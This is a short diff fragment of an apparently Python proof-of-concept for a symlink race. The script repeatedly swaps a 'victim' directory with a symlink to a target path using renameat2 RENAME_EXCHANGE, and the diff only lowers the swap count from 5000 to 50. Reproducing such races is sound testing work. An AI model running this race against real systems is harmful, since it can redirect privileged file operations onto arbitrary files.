@@ -36,7 +36,7 @@ while True:
             os.mkdir(victim, dir_fd=fd)
             os.close(os.open(victim + "/one", os.O_CREAT, dir_fd=fd))
             os.symlink(target, link, dir_fd=fd)
-            for swap in range(5000):
+            for swap in range(50):
                 if libc.renameat2(fd, victim.encode(), fd, link.encode(), 2):  # RENAME_EXCHANGE
                     break
                 count.value += 1
